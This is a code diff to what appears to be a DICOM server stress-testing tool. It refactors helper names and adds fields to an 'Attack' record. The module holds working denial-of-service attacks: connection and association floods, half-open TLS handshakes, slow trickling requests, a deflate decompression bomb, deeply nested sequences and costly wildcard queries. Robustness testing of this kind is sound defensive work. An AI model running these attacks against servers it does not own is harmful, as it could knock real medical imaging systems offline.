@@ -48,22 +48,28 @@ _OPENING_SECONDS = 10.0
 
 @dataclass(frozen=True)
 class Attack:
-    """*title* for people; *play* against a server, at a size of 0 to 1 of the real one."""
+    """*title* for people; *play* against a server, at a size of 0 to 1 of the real one.
+
+    Attributes:
+        wanted: pattern of what the attacker may get of ours; empty: no matter.
+        needs_ours: other servers have not what it attacks.
+    """
 
     name: str
     title: str
     play: Callable[[Target, float], str]
-    needs_tls: bool = False
+    wanted: str = ""
+    needs_ours: bool = False
 
 
-def _many(number: int, scale: float) -> int:
+def many(number: int, scale: float) -> int:
     return max(int(number * scale), 3)
 
 
 # Connections.
 
 
-def _open(stack: ExitStack, port: int, number: int) -> list[Peer]:
+def opened(stack: ExitStack, port: int, number: int) -> list[Peer]:
     """So many connections, or as many as the server takes in a while."""
     until = time.monotonic() + _OPENING_SECONDS
     peers = []
@@ -77,7 +83,7 @@ def _open(stack: ExitStack, port: int, number: int) -> list[Peer]:
 
 def idle_connections(target: Target, scale: float) -> str:
     with ExitStack() as stack:
-        peers = _open(stack, target.port, _many(1_000, scale))
+        peers = opened(stack, target.port, many(1_000, scale))
         time.sleep(3 * scale)
         return f"{len(peers)} opened"
 
@@ -92,7 +98,7 @@ def half_open_handshakes(target: Target, scale: float) -> str:
         hello.do_handshake()
     half = outgoing.read()[:-20]
     with ExitStack() as stack:
-        peers = _open(stack, target.tls_port, _many(500, scale))
+        peers = opened(stack, target.tls_port, many(500, scale))
         for peer in peers:
             with suppress(Closed):
                 peer.send(half)
@@ -103,7 +109,7 @@ def half_open_handshakes(target: Target, scale: float) -> str:
 def trickling_requests(target: Target, scale: float) -> str:
     request = association(target.called)
     with ExitStack() as stack:
-        peers = _open(stack, target.port, _many(300, scale))
+        peers = opened(stack, target.port, many(300, scale))
         until = time.monotonic() + 8 * scale
         sent = 0
         while time.monotonic() < until and sent < len(request) - 1:
@@ -116,7 +122,7 @@ def trickling_requests(target: Target, scale: float) -> str:
 
 
 def connect_flood(target: Target, scale: float) -> str:
-    number = _many(10_000, scale)
+    number = many(10_000, scale)
     began = time.monotonic()
     done = 0
     while done < number and time.monotonic() - began < 60:
@@ -129,7 +135,7 @@ def connect_flood(target: Target, scale: float) -> str:
 def aborted_associations(target: Target, scale: float) -> str:
     fates = []
     until = time.monotonic() + 3 * _OPENING_SECONDS
-    for _ in range(_many(2_000, scale)):
+    for _ in range(many(2_000, scale)):
         if time.monotonic() > until:
             break
         try:
@@ -144,7 +150,7 @@ def aborted_associations(target: Target, scale: float) -> str:
 def full_of_associations(target: Target, scale: float) -> str:
     fates = []
     with ExitStack() as stack:
-        peers = _open(stack, target.port, _many(150, scale))
+        peers = opened(stack, target.port, many(150, scale))
         for peer in peers:
             with suppress(Closed):
                 peer.sock.settimeout(0.5)
@@ -176,7 +182,7 @@ def pdv_flood(target: Target, scale: float) -> str:
     with associated(target) as peer:
         try:
             peer.send(command(STORE_CONTEXT, store("1.2.3"), has_data_set=True))
-            for _ in range(_many(500, scale)):
+            for _ in range(many(500, scale)):
                 peer.send(pdu(DATA, empty))
         except Closed:
             pass
@@ -250,7 +256,7 @@ def one_message_id_for_all(target: Target, scale: float) -> str:
     fates = []
     try:
         with associated(target) as peer:
-            for _ in range(_many(50, scale)):
+            for _ in range(many(50, scale)):
                 peer.send(command(STORE_CONTEXT, store("1.2.3", 7), has_data_set=True))
                 peer.send(command(ECHO_CONTEXT, echo(7)))
             fates.append(peer.fate())
@@ -265,17 +271,17 @@ def one_message_id_for_all(target: Target, scale: float) -> str:
     return summed_up(fates)
 
 
-def _element(tag: int, vr: bytes, value: bytes) -> bytes:
+def element(tag: int, vr: bytes, value: bytes) -> bytes:
     value += b"\0" * (len(value) % 2)
     return struct.pack("<HH2sH", tag >> 16, tag & 0xFFFF, vr, len(value)) + value
 
 
 def _object(uid: str, rest: bytes = b"", study: str = "1.2.3.4") -> bytes:
     return (
-        _element(0x00080016, b"UI", CT.encode())
-        + _element(0x00080018, b"UI", uid.encode())
-        + _element(0x0020000D, b"UI", study.encode())
-        + _element(0x0020000E, b"UI", b"1.2.3.4.5")
+        element(0x00080016, b"UI", CT.encode())
+        + element(0x00080018, b"UI", uid.encode())
+        + element(0x0020000D, b"UI", study.encode())
+        + element(0x0020000E, b"UI", b"1.2.3.4.5")
         + rest
     )
 
@@ -297,7 +303,7 @@ def _stored(
 def deflate_bomb(target: Target, scale: float) -> str:
     compressor = zlib.compressobj(9, zlib.DEFLATED, -zlib.MAX_WBITS)
     bomb = [compressor.compress(_object("1.2.3.999"))]
-    size = _many(512, scale) * _MIB
+    size = many(512, scale) * _MIB
     header = struct.pack("<HH2sxxI", 0x7FE0, 0x0010, b"OB", size)
     bomb.append(compressor.compress(header))
     bomb += [compressor.compress(bytes(_MIB)) for _ in range(size // _MIB)]
@@ -305,13 +311,18 @@ def deflate_bomb(target: Target, scale: float) -> str:
     return _stored(target, "1.2.3.999", b"".join(bomb), DEFLATED_CONTEXT)
 
 
-def deep_nesting(target: Target, scale: float) -> str:
-    depth = _many(10_000, scale)
-    begin = struct.pack("<HH2sxxI", 0x0040, 0xA730, b"SQ", _UNDEFINED) + struct.pack(
+def nested(tag: int, depth: int) -> bytes:
+    """So many sequences in each other."""
+    begin = struct.pack("<HH2sxxI", tag >> 16, tag & 0xFFFF, b"SQ", _UNDEFINED) + struct.pack(
         "<HHI", 0xFFFE, 0xE000, _UNDEFINED
     )
     end = struct.pack("<HHI", 0xFFFE, 0xE00D, 0) + struct.pack("<HHI", 0xFFFE, 0xE0DD, 0)
-    return _stored(target, "1.2.3.998", _object("1.2.3.998", begin * depth + end * depth))
+    return begin * depth + end * depth
+
+
+def deep_nesting(target: Target, scale: float) -> str:
+    deep = nested(0x0040A730, many(10_000, scale))
+    return _stored(target, "1.2.3.998", _object("1.2.3.998", deep))
 
 
 def lying_elements(target: Target, scale: float) -> str:
@@ -371,17 +382,17 @@ def hard_wild_cards(target: Target, scale: float) -> str:
     stored = _stored(
         target,
         "1.2.3.995",
-        _element(0x00080016, b"UI", CT.encode())
-        + _element(0x00080018, b"UI", b"1.2.3.995")
-        + _element(0x00100010, b"PN", name)
-        + _element(0x00100020, b"LO", b"995")
-        + _element(0x0020000D, b"UI", b"1.2.3.995.1")
-        + _element(0x0020000E, b"UI", b"1.2.3.995.2"),
+        element(0x00080016, b"UI", CT.encode())
+        + element(0x00080018, b"UI", b"1.2.3.995")
+        + element(0x00100010, b"PN", name)
+        + element(0x00100020, b"LO", b"995")
+        + element(0x0020000D, b"UI", b"1.2.3.995.1")
+        + element(0x0020000E, b"UI", b"1.2.3.995.2"),
     )
     identifier = (
-        _element(0x00080052, b"CS", b"STUDY ")
-        + _element(0x00100010, b"PN", b"*a" * 30 + b"*b")
-        + _element(0x0020000D, b"UI", b"")
+        element(0x00080052, b"CS", b"STUDY ")
+        + element(0x00100010, b"PN", b"*a" * 30 + b"*b")
+        + element(0x0020000D, b"UI", b"")
     )
     began = time.monotonic()
     try:
@@ -400,14 +411,14 @@ def peers_that_never_read(target: Target, scale: float) -> str:
     with ExitStack() as stack:
         sent = 0
         peers = []
-        for _ in range(_many(20, scale)):
+        for _ in range(many(20, scale)):
             with suppress(Closed):
                 peer = stack.enter_context(associated(target))
                 peer.sock.settimeout(0.2)
                 peers.append(peer)
         for peer in peers:
             with suppress(Closed):
-                for _ in range(_many(300, scale)):
+                for _ in range(many(300, scale)):
                     peer.send(ask)
                     sent += 200
         return f"{sent:,} C-ECHO-RQs taken from {len(peers)} peers"
@@ -437,7 +448,7 @@ def crumbs(target: Target, scale: float) -> str:
 def release_and_say_nothing(target: Target, scale: float) -> str:
     fates = []
     with ExitStack() as stack:
-        for peer in _open(stack, target.port, _many(100, scale)):
+        for peer in opened(stack, target.port, many(100, scale)):
             try:
                 peer.sock.settimeout(1)
                 peer.associate(target.called)
@@ -451,7 +462,9 @@ def release_and_say_nothing(target: Target, scale: float) -> str:
 
 ATTACKS = (
     Attack("idle", "1,000 connections that say nothing", idle_connections),
-    Attack("half-open", "500 TLS handshakes that stop half way", half_open_handshakes, True),
+    Attack(
+        "half-open", "500 TLS handshakes that stop half way", half_open_handshakes, needs_ours=True
+    ),
     Attack("trickle", "300 requests of a byte now and then", trickling_requests),
     Attack("connects", "10,000 connections, closed at once", connect_flood),
     Attack("aborts", "2,000 associations, aborted at once", aborted_associations),
